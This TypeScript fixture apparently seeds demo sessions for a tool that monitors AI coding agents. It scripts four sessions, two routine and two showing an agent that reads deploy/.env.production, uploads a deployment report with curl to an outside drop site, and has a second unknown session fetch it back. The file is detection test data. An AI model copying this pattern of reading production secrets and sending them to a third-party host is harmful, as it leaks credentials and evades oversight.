import type { NativeContextJson } from '../sources/native/wire.js';
import {
  ALICE,
  BOB,
  CAROL,
  CLAUDE_CODE,
  CODE_HOST_API,
  CURSOR,
  DROP_SITE,
  INFRASTRUCTURE,
  NARRATIVE_KEY,
  OPUS,
  PAYMENTS,
  REFERENCE_SITE,
  SHARED_KEY,
  SONNET,
  STOREFRONT,
  UNMANAGED_ENDPOINT,
} from './company.js';
import { MINUTE_MS, type SessionPlan } from './session-plan.js';
import {
  CLAUDE_CODE_TOOLS,
  CURSOR_TOOLS,
  editFile,
  getIssue,
  listFiles,
  listThroughServer,
  readFile,
  readThroughServer,
  runCommand,
  searchText,
  searchWeb,
  updatePlan,
  webCommand,
} from './tool-calls.js';

/**
 * The four sessions that the day is about. What makes each of them matter, or not, hangs on the order of its calls:
 * a sensitive file before or after a call to the outside, and how many calls lie between two hosts.
 */

/** The session that the documentation shows. */
export const REPRESENTATIVE_SESSION_ID = 'sess_01XFa9qT7mKcW4vRb2HdYpNe';

const SENSITIVE_SOURCE = 'src/auth.ts';
/** Critical wherever it lies. */
const LIVE_SETTINGS = 'deploy/.env.production';

const CC = CLAUDE_CODE_TOOLS;
const CU = CURSOR_TOOLS;

/**
 * Alice, now: reads authentication source for the first time after a day on other repositories, and looks something
 * up outside within ten minutes, with a key that bob has used too. Between her first call to each of the two hosts
 * lie more than ten calls, and by the time that the second is new no answer from outside is recent.
 */
function liveAuthenticationWork(): SessionPlan {
  const middleware = 'src/middleware/rate-limit.ts';
  const test = 'test/rate-limit.test.ts';
  return {
    sessionId: REPRESENTATIVE_SESSION_ID,
    product: CLAUDE_CODE,
    model: SONNET,
    context: {
      user: { email: ALICE.email },
      identityCarried: true,
      endpoint: ALICE.endpoint,
      agent: CLAUDE_CODE.agent,
      key: SHARED_KEY,
      repository: PAYMENTS.ref,
      branch: 'limit-login-attempts',
      permissionMode: 'default',
    },
    startedAgoMs: 14 * MINUTE_MS,
    lastSeenAgoMs: 20_000,
    ended: false,
    costMicroUsd: 430_000,
    turns: [
      {
        prompt: 'Login attempts are not limited, see issue 482. Where would that be decided?',
        calls: [
          getIssue(CODE_HOST_API, 482),
          readFile(CC, SENSITIVE_SOURCE, 212),
          searchText(CC, 'rateLimit\\(', 6),
        ],
        answer: 'In the middleware, before the handler in src/auth.ts is reached.',
      },
      {
        prompt: 'Read the middleware too. What happens after five failures?',
        calls: [
          readFile(CC, middleware, 74),
          readFile(CC, SENSITIVE_SOURCE, 212),
          runCommand(CC, 'git log --oneline -5 -- src/middleware', '5 commits'),
        ],
        answer: 'Nothing: failures are counted and the count is never read.',
      },
      {
        prompt: 'Write a failing test first.',
        calls: [
          readFile(CC, test, 58),
          editFile(CC, test, 21),
          runCommand(CC, 'npm test -- rate-limit', '1 failed'),
        ],
        answer: 'The test fails as it should.',
      },
      {
        prompt: 'Now make it pass.',
        calls: [
          editFile(CC, middleware, 17),
          runCommand(CC, 'npm test -- rate-limit', '9 passed'),
          updatePlan(CC, 4, 2),
        ],
        answer: 'It passes.',
      },
      {
        prompt: 'Does Retry-After take seconds or a date?',
        calls: [
          searchWeb(REFERENCE_SITE, 'Retry-After header seconds or date'),
          listThroughServer('src/middleware'),
        ],
        answer: 'Either. Seconds are simpler to test.',
      },
      {
        prompt: 'Then send seconds.',
        calls: [
          editFile(CC, middleware, 6),
          runCommand(CC, 'npm test -- rate-limit', '10 passed'),
          readFile(CC, middleware, 91),
          searchText(CC, 'retryAfter', 3),
        ],
        answer: 'Done, with a test.',
      },
      {
        prompt: 'Does anything else call the old function?',
        calls: [
          searchText(CC, 'countFailures\\(', 1),
          listFiles(CC, 'src/**/*.ts', 44),
          readThroughServer(SENSITIVE_SOURCE),
          runCommand(CC, 'npm run typecheck', 'no errors'),
        ],
        answer: 'Only the handler, and it needs no change.',
      },
      {
        prompt: 'Sum it up for the pull request.',
        calls: [
          runCommand(CC, 'git diff --stat', '2 files changed'),
          readFile(CC, middleware, 91),
          getIssue(CODE_HOST_API, 482),
        ],
        answer: 'Login attempts are limited to five a minute; the answer says when to try again.',
      },
    ],
  };
}

/** Bob, in the morning: ordinary work, but with the key that alice uses now. */
function borrowedKey(): SessionPlan {
  const component = 'src/components/filter-bar.tsx';
  const hook = 'src/lib/use-filters.ts';
  return {
    sessionId: 'sess_01Bq4nWkM8zLtC6yJpXs3aVe',
    product: CURSOR,
    model: OPUS,
    context: {
      user: { email: BOB.email },
      identityCarried: true,
      endpoint: BOB.endpoint,
      agent: CURSOR.agent,
      key: SHARED_KEY,
      repository: STOREFRONT.ref,
      branch: 'filter-bar',
    },
    startedAgoMs: 600 * MINUTE_MS,
    lastSeenAgoMs: 561 * MINUTE_MS,
    ended: true,
    costMicroUsd: 970_000,
    turns: [
      {
        prompt: 'The filter bar forgets its state when one goes back.',
        calls: [
          readFile(CU, component, 133),
          readFile(CU, hook, 61),
          searchText(CU, 'useFilters', 7),
          listFiles(CU, 'src/lib', 12),
        ],
        answer: 'The state is kept in the component and is lost with it.',
      },
      {
        prompt: 'How do other sites do it? Look it up.',
        calls: [searchWeb(REFERENCE_SITE, 'history replaceState query string'), readFile(CU, component, 133)],
        answer: 'They keep it in the query string.',
      },
      {
        prompt: 'Do that.',
        calls: [
          editFile(CU, hook, 34),
          editFile(CU, component, 12),
          runCommand(CU, 'npm test -- filter', '6 passed'),
          readFile(CU, hook, 80),
          runCommand(CU, 'npm run lint', 'no problems'),
        ],
        answer: 'The filters are in the address now.',
      },
    ],
  };
}

/** Carol, from a machine that nobody knows: the secrets of the live system, then a site that hardly anybody calls. */
function exposure(): SessionPlan {
  return {
    sessionId: 'sess_01EmR7vHc5TqYw9KdN2xLbGa',
    product: CLAUDE_CODE,
    model: SONNET,
    context: {
      user: { email: CAROL.email },
      identityCarried: true,
      endpoint: UNMANAGED_ENDPOINT,
      agent: CLAUDE_CODE.agent,
      key: NARRATIVE_KEY,
      repository: INFRASTRUCTURE.ref,
      branch: 'main',
      permissionMode: 'default',
    },
    startedAgoMs: 190 * MINUTE_MS,
    lastSeenAgoMs: 158 * MINUTE_MS,
    ended: true,
    costMicroUsd: 1_180_000,
    turns: [
      {
        prompt: 'The deployment report is empty. What goes into it?',
        calls: [
          readFile(CC, 'deploy/report.sh', 48),
          readFile(CC, 'deploy/compose.yaml', 96),
          searchText(CC, 'REPORT_', 5),
          listFiles(CC, 'deploy/*', 9),
        ],
        answer: 'The names of the services, and the settings that they run with.',
      },
      {
        prompt: 'Then look at what the services really run with.',
        calls: [
          runCommand(CC, 'docker compose config --services', 'api\nworker\nscheduler'),
          readFile(CC, LIVE_SETTINGS, 37),
          readFile(CC, 'deploy/compose.yaml', 96),
        ],
        answer: 'Three services share one file of settings.',
      },
      {
        prompt: 'Build the report and put it where the supplier can fetch it.',
        calls: [
          runCommand(CC, 'sh deploy/report.sh', 'report: 3 services'),
          webCommand(
            CC,
            `curl -sS --upload-file build/deployment-report.txt https://${DROP_SITE}/acme/`,
            DROP_SITE,
            'HTTP 201',
          ),
          readFile(CC, 'deploy/report.sh', 48),
        ],
        answer: 'It is there.',
      },
      {
        prompt: 'Is it complete?',
        calls: [
          webCommand(CC, `curl -sSI https://${DROP_SITE}/acme/deployment-report.txt`, DROP_SITE, 'HTTP 200'),
          searchText(CC, 'services:', 2),
          runCommand(CC, 'git status', 'clean'),
        ],
        answer: 'Yes: the size is that of the file here.',
      },
    ],
  };
}

/** Somebody on the same machine with the same key, now: fetches from the same site, and reads the same file later. */
function unknownFollower(): SessionPlan {
  const context: NativeContextJson = {
    identityCarried: true,
    endpoint: UNMANAGED_ENDPOINT,
    agent: CLAUDE_CODE.agent,
    key: NARRATIVE_KEY,
    repository: INFRASTRUCTURE.ref,
    branch: 'main',
    permissionMode: 'default',
  };
  return {
    sessionId: 'sess_01UgZ3sPfD8kVj5nXtQh7cMr',
    product: CLAUDE_CODE,
    model: SONNET,
    context,
    startedAgoMs: 52 * MINUTE_MS,
    lastSeenAgoMs: 2 * MINUTE_MS,
    ended: false,
    costMicroUsd: 1_060_000,
    turns: [
      {
        prompt: 'Fetch the last deployment report.',
        calls: [
          webCommand(
            CC,
            `curl -sS https://${DROP_SITE}/acme/deployment-report.txt`,
            DROP_SITE,
            'report: 3 services',
          ),
          listFiles(CC, 'scripts/*', 14),
          readFile(CC, 'scripts/health-check.sh', 41),
        ],
        answer: 'Three services: api, worker and scheduler.',
      },
      {
        prompt: 'How are they checked?',
        calls: [
          searchText(CC, 'healthz', 4),
          readFile(CC, 'kubernetes/ingress.yaml', 66),
          readFile(CC, 'scripts/health-check.sh', 41),
        ],
        answer: 'Each answers on a path of its own.',
      },
      {
        prompt: 'Run the check against the staging names.',
        calls: [
          runCommand(CC, 'bash -n scripts/health-check.sh', ''),
          searchText(CC, 'staging', 8),
          listFiles(CC, 'kubernetes/*.yaml', 11),
        ],
        answer: 'The script parses; the names are in the ingress.',
      },
      {
        prompt: 'Which settings does the api need to start?',
        calls: [
          searchText(CC, 'process\\.env', 19),
          readFile(CC, LIVE_SETTINGS, 37),
          readFile(CC, 'kubernetes/ingress.yaml', 66),
        ],
        answer: 'Eleven of those in the file.',
      },
      {
        prompt: 'List them without their values.',
        calls: [searchText(CC, '^[A-Z_]+=', 1), runCommand(CC, 'git status', 'clean')],
        answer: 'Here are the eleven names.',
      },
    ],
  };
}

export function featuredSessions(): readonly SessionPlan[] {
  return [liveAuthenticationWork(), borrowedKey(), exposure(), unknownFollower()];
}
